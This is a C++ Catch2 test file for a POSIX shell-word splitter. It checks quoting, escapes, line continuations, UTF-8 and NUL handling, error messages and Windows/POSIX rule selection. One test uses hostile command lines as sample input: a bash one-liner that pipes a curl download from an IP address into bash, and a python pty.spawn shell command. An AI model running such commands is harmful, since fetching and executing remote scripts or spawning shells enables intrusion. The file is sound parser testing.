// POSIX shell-word splitting, and split() choosing between the two rule sets.

#include <catch2/catch.hpp>

#include <cstddef>
#include <optional>
#include <string>
#include <vector>

#include "core/cmdline/cmdline.hpp"

using casetrail::cmdline::Platform;
using casetrail::cmdline::split;
using casetrail::cmdline::split_posix;
using Args = std::vector<std::string>;

namespace {

// A std::string of every byte of a literal, embedded NULs included.
template <std::size_t N>
std::string bytes(const char (&literal)[N]) {
  return std::string(literal, N - 1);
}

// The words, or the error text in place of them so that a failure shows it.
Args words(std::string_view line) {
  auto result = split_posix(line);
  if (!result) return Args{"error: " + result.error()};
  return *result;
}

std::string error_of(std::string_view line) {
  auto result = split_posix(line);
  return result ? std::string("no error") : result.error();
}

}  // namespace

TEST_CASE("space, tab and newline separate POSIX words", "[cmdline]") {
  CHECK(words("ls -la /tmp") == Args{"ls", "-la", "/tmp"});
  CHECK(words("  ls \t -l\n/tmp  \n") == Args{"ls", "-l", "/tmp"});
  CHECK(words("a\rb\vc") == Args{"a\rb\vc"});
}

TEST_CASE("an empty or blank POSIX command line gives no words", "[cmdline]") {
  CHECK(words("").empty());
  CHECK(words(" \t\n ").empty());
}

TEST_CASE("single quotes keep every byte literally", "[cmdline]") {
  CHECK(words(R"(echo 'a  b' 'c\d' '$HOME' '"')") == Args{"echo", "a  b", R"(c\d)", "$HOME", R"(")"});
  CHECK(words("'a\nb'") == Args{"a\nb"});
  CHECK(words(R"('a\')") == Args{R"(a\)"});
  CHECK(words(R"('it'\''s')") == Args{"it's"});
}

TEST_CASE("inside double quotes a backslash escapes only dollar, backquote, quote, "
          "backslash and newline",
          "[cmdline]") {
  CHECK(words(R"(echo "a b" "\$x" "\`" "\"" "\\" "\a" "\'" "$HOME")") ==
        Args{"echo", "a b", "$x", "`", R"(")", R"(\)", R"(\a)", R"(\')", "$HOME"});
  CHECK(words(R"("'")") == Args{"'"});
  CHECK(words(R"("C:\Windows\n")") == Args{R"(C:\Windows\n)"});
}

TEST_CASE("inside double quotes backslash-newline is removed and a newline is kept",
          "[cmdline]") {
  CHECK(words("\"a\\\nb\"") == Args{"ab"});
  CHECK(words("\"a\nb\"") == Args{"a\nb"});
}

TEST_CASE("outside quotes a backslash escapes the next byte", "[cmdline]") {
  CHECK(words(R"(a\ b \' \" \\ \a \$x)") == Args{"a b", "'", R"(")", R"(\)", "a", "$x"});
  CHECK(words("a\\\tb") == Args{"a\tb"});
}

TEST_CASE("outside quotes backslash-newline is a removed line continuation", "[cmdline]") {
  CHECK(words("ls \\\n-l") == Args{"ls", "-l"});
  CHECK(words("ab\\\ncd") == Args{"abcd"});
  CHECK(words("a \\\n b") == Args{"a", "b"});
  CHECK(words("a \\\n") == Args{"a"});
  CHECK(words("\\\n").empty());
}

TEST_CASE("empty quotes are empty POSIX words", "[cmdline]") {
  CHECK(words(R"('' "")") == Args{"", ""});
  CHECK(words(R"(a '' b "" c)") == Args{"a", "", "b", "", "c"});
  CHECK(words(R"(''"")") == Args{""});
  CHECK(words("\"\\\n\"") == Args{""});
}

TEST_CASE("adjacent quoted and unquoted parts join into one word", "[cmdline]") {
  CHECK(words(R"(a'b'"c"\ d)") == Args{"abc d"});
  CHECK(words(R"(--name="x y" -o'out file')") == Args{"--name=x y", "-oout file"});
  CHECK(words(R"(''a)") == Args{"a"});
}

TEST_CASE("POSIX splitting expands nothing and treats operators and # as bytes",
          "[cmdline]") {
  CHECK(words("echo $HOME ~ *.txt `id` $(id) | grep x; a&&b >out # c") ==
        Args{"echo", "$HOME", "~", "*.txt", "`id`", "$(id)", "|", "grep", "x;", "a&&b", ">out",
             "#", "c"});
}

TEST_CASE("a real POSIX command line splits into its arguments", "[cmdline]") {
  CHECK(words(R"(/bin/bash -c "curl -s http://203.0.113.5/x.sh | bash" --norc)") ==
        Args{"/bin/bash", "-c", "curl -s http://203.0.113.5/x.sh | bash", "--norc"});
  CHECK(words(R"(python3 -c 'import pty; pty.spawn("/bin/sh")')") ==
        Args{"python3", "-c", R"(import pty; pty.spawn("/bin/sh"))"});
}

TEST_CASE("UTF-8 passes through POSIX splitting byte for byte", "[cmdline]") {
  CHECK(words("cat '/home/jos\xC3\xA9/\xE3\x83\x95 x' \xF0\x9F\x98\x80") ==
        Args{"cat", "/home/jos\xC3\xA9/\xE3\x83\x95 x", "\xF0\x9F\x98\x80"});
}

TEST_CASE("invalid UTF-8 passes through POSIX splitting byte for byte", "[cmdline]") {
  CHECK(words("a\xFF \"\xC3 \xFE\" \\\x80") == Args{"a\xFF", "\xC3 \xFE", "\x80"});
}

TEST_CASE("an embedded NUL is an ordinary byte in POSIX splitting", "[cmdline]") {
  const Args args = words(bytes("a\0b 'c\0 d' \"\0\""));
  CHECK(args == Args{bytes("a\0b"), bytes("c\0 d"), bytes("\0")});
  REQUIRE(args.size() == 3);
  CHECK(args[2].size() == 1);
}

TEST_CASE("an unterminated single quote is an error", "[cmdline]") {
  CHECK(error_of("echo 'abc") == "unterminated single quote");
  CHECK(error_of("'") == "unterminated single quote");
  CHECK(error_of(R"(echo "a" 'b)") == "unterminated single quote");
}

TEST_CASE("an unterminated double quote is an error", "[cmdline]") {
  CHECK(error_of(R"(echo "abc)") == "unterminated double quote");
  CHECK(error_of(R"(echo "abc\")") == "unterminated double quote");
  CHECK(error_of(R"("abc\)") == "unterminated double quote");
  CHECK(error_of(R"("'")") == "no error");
}

TEST_CASE("a trailing backslash is an error", "[cmdline]") {
  CHECK(error_of(R"(echo abc\)") == "trailing backslash");
  CHECK(error_of(R"(\)") == "trailing backslash");
  CHECK(error_of(R"(a\\)") == "no error");
}

TEST_CASE("split uses the Windows rules for Platform::windows", "[cmdline]") {
  CHECK(split(R"("C:\Program Files\x.exe" 'a b' c\d)", Platform::windows) ==
        std::optional<Args>(Args{R"(C:\Program Files\x.exe)", "'a", "b'", R"(c\d)"}));
  CHECK(split("x 'unterminated", Platform::windows) ==
        std::optional<Args>(Args{"x", "'unterminated"}));
}

TEST_CASE("split uses the POSIX rules for Platform::posix", "[cmdline]") {
  CHECK(split(R"(/bin/echo 'a b' c\d)", Platform::posix) ==
        std::optional<Args>(Args{"/bin/echo", "a b", "cd"}));
}

TEST_CASE("split gives no parsed view when POSIX splitting fails", "[cmdline]") {
  CHECK_FALSE(split("echo 'abc", Platform::posix).has_value());
  CHECK_FALSE(split(R"(echo "abc)", Platform::posix).has_value());
  CHECK_FALSE(split(R"(echo abc\)", Platform::posix).has_value());
}
